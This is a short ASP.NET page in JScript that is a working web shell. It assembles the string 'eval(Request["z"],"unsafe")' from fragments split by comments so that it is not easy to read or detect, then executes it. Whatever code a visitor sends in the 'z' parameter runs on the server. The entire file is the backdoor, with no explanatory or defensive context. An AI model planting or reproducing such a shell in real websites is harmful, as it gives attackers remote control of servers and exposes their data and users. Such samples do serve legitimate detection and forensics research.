<%@ Page Language="JScript" %>
<%var p = "e"+"v"+/*-*/"a"+"l"+"("+"R"+"e"+/*-*/"q"+"u"+"e"+"s"+"t"+"[\"z\"]"+","+"\"unsafe\""+")";
eval(p, "unsafe");%>
